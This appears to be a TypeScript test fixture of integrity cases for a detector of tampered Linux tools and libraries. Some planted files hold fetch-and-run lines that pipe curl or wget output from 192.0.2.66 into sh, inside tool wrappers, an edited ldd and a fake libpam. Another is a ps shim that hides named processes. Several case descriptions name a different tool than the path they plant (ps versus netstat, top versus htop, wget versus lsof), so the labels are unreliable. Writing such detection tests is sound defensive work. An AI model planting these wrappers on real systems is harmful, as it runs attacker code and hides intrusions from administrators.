/**
 * Cases of the group `integrity`. `fetch-and-run` is a tool that was replaced by a script that fetches; `unowned-binary`
 * a tool replaced by another program; `owned-edit` a packaged script with a line added, or the nearest to it.
 */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const fetching = `#!/bin/sh
curl -fsSL http://192.0.2.66/ps.sh | sh
exec /usr/bin/ps.original "$@"
`;

/** Another program than the package's of the same name. */
const other = inertProgram(5000);
const original = inertProgram(4500);
const script = '#!/bin/sh\nexec real-tool "$@"\n';
const fetch = '(curl -fsSL http://192.0.2.66/i.sh || wget -qO- http://192.0.2.66/i.sh) | sh\n';

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'changed-tool',
    dress: 'fetch-and-run',
    what: 'ps replaced by a wrapper that fetches and then calls the original',
    packaged: { '/usr/bin/netstat': original },
    planted: { '/usr/bin/netstat': fetching },
  },
  {
    mechanism: 'changed-tool',
    dress: 'unowned-binary',
    what: 'ss replaced by another program',
    packaged: { '/usr/bin/ss': original },
    planted: { '/usr/bin/ss': other },
  },
  {
    mechanism: 'changed-tool',
    dress: 'owned-edit',
    what: 'a line added to the packaged script ldd',
    packaged: { '/usr/bin/ldd': script },
    planted: { '/usr/bin/ldd': script + fetch },
  },
  {
    mechanism: 'changed-tool',
    dress: 'honest',
    what: 'a tool diverted by the administrator, its replacement beside it',
    packaged: { '/usr/bin/find': original },
    planted: {
      '/usr/bin/find': '#!/bin/sh\nexec ionice -c3 /usr/bin/find.distrib "$@"\n',
      '/usr/bin/find.distrib': { content: original, mode: 0o755 },
      '/var/lib/dpkg/diversions': '/usr/bin/find\n/usr/bin/find.distrib\n:\n',
    },
  },
  {
    mechanism: 'changed-tool',
    dress: 'honest',
    what: 'a curl of the administrator in /usr/local/bin beside the packaged one',
    planted: { '/usr/local/bin/curl': { content: other, mode: 0o755 } },
  },
  {
    mechanism: 'changed-tool',
    dress: 'honest',
    what: 'npm that updated itself over the packaged one, and a document that was edited',
    packaged: {
      '/usr/lib/node_modules/npm/bin/npm-cli.js': '#!/usr/bin/env node\n// 9\n',
      '/usr/lib/node_modules/npm/docs/index.html': '<p>9</p>\n',
      '/usr/share/app/notes.txt': 'one\n',
    },
    planted: {
      '/usr/lib/node_modules/npm/bin/npm-cli.js': { content: '#!/usr/bin/env node\n// 10\n', mode: 0o755 },
      '/usr/lib/node_modules/npm/docs/index.html': '<p>10</p>\n',
      '/usr/share/app/notes.txt': 'two\n',
    },
  },
  {
    mechanism: 'changed-library',
    dress: 'fetch-and-run',
    what: 'libpam replaced by a program with an address in it, which is as near as a library comes',
    packaged: { '/usr/lib/x86_64-linux-gnu/libpam.so.0': original },
    planted: {
      '/usr/lib/x86_64-linux-gnu/libpam.so.0': Buffer.concat([other, Buffer.from(`sh -c '${fetch}'`)]),
    },
  },
  {
    mechanism: 'changed-library',
    dress: 'unowned-binary',
    what: 'pam_unix.so replaced by another one',
    packaged: { '/usr/lib/x86_64-linux-gnu/security/pam_unix.so': original },
    planted: { '/usr/lib/x86_64-linux-gnu/security/pam_unix.so': { content: other, mode: 0o644 } },
  },
  {
    mechanism: 'changed-library',
    dress: 'owned-edit',
    what: 'bytes patched inside the packaged libkeyutils',
    packaged: { '/usr/lib/x86_64-linux-gnu/libkeyutils.so.1': original },
    planted: {
      '/usr/lib/x86_64-linux-gnu/libkeyutils.so.1': Uint8Array.from(original, (byte, at) =>
        at >= 4000 && at < 4010 ? 0x90 : byte,
      ),
    },
  },
  {
    mechanism: 'changed-library',
    dress: 'honest',
    what: 'an update that runs: the next version of the library lies beside the old one',
    packaged: { '/usr/lib/x86_64-linux-gnu/libsystemd.so.0': original },
    planted: {
      '/usr/lib/x86_64-linux-gnu/libsystemd.so.0': { content: other, mode: 0o644 },
      '/usr/lib/x86_64-linux-gnu/libsystemd.so.0.dpkg-new': { content: other, mode: 0o644 },
    },
  },
  {
    mechanism: 'missing-file',
    dress: 'fetch-and-run',
    what: 'chattr taken away, a link in its place to what is to be fetched; a file that is gone fetches nothing itself',
    packaged: { '/usr/bin/chattr': original },
    planted: { '/usr/bin/chattr': { link: '/var/tmp/.c/chattr' } },
  },
  {
    mechanism: 'missing-file',
    dress: 'unowned-binary',
    what: 'lsattr is a link to nowhere, and the program lies under another name beside it',
    packaged: { '/usr/bin/lsattr': original },
    planted: {
      '/usr/bin/lsattr': { link: '/nonexistent' },
      '/usr/bin/lsattrd': { content: original, mode: 0o755 },
    },
  },
  {
    mechanism: 'missing-file',
    dress: 'owned-edit',
    what: 'pkill, brought as a program, is a link onto itself',
    packaged: { '/usr/bin/pkill': original },
    planted: { '/usr/bin/pkill': { link: 'pkill' } },
  },
  {
    mechanism: 'missing-file',
    dress: 'honest',
    what: 'documentation that an image leaves out',
    planted: { '/etc/dpkg/dpkg.cfg.d/slim': 'path-exclude=/usr/share/doc/*\n' },
  },
  {
    mechanism: 'renamed-tool',
    dress: 'fetch-and-run',
    what: 'top put aside as top.original, a wrapper that fetches in its place',
    packaged: { '/usr/bin/htop': original },
    planted: {
      '/usr/bin/htop': fetching,
      '/usr/bin/htop.original': { content: original, mode: 0o755 },
    },
  },
  {
    mechanism: 'renamed-tool',
    dress: 'unowned-binary',
    what: 'wget moved to wd1, and another program in its place',
    packaged: { '/usr/bin/lsof': original },
    planted: { '/usr/bin/lsof': other, '/usr/bin/wd1': { content: original, mode: 0o755 } },
  },
  {
    mechanism: 'renamed-tool',
    dress: 'owned-edit',
    what: 'crontab moved under an innocent name, the packaged name a changed copy',
    packaged: { '/usr/bin/crontab': original },
    planted: {
      '/usr/bin/crontab': Uint8Array.from(original, (byte, at) => (at === 4400 ? 1 : byte)),
      '/usr/bin/cttab': { content: original, mode: 0o755 },
    },
  },
  {
    mechanism: 'renamed-tool',
    dress: 'unowned-binary',
    what: 'a script before ps in PATH that leaves lines out',
    planted: {
      '/usr/local/bin/ps': {
        content: '#!/bin/sh\n/usr/bin/ps "$@" | grep -Ev "kdevx|sysrvx"\n',
        mode: 0o755,
      },
    },
  },
  {
    mechanism: 'renamed-tool',
    dress: 'honest',
    what: 'settings kept before an edit, beside an untouched tool',
    planted: {
      '/etc/ssh/sshd_config.bak': 'Port 22\n',
      '/usr/local/bin/backup': '#!/bin/sh\nexec restic backup /srv\n',
    },
  },
];
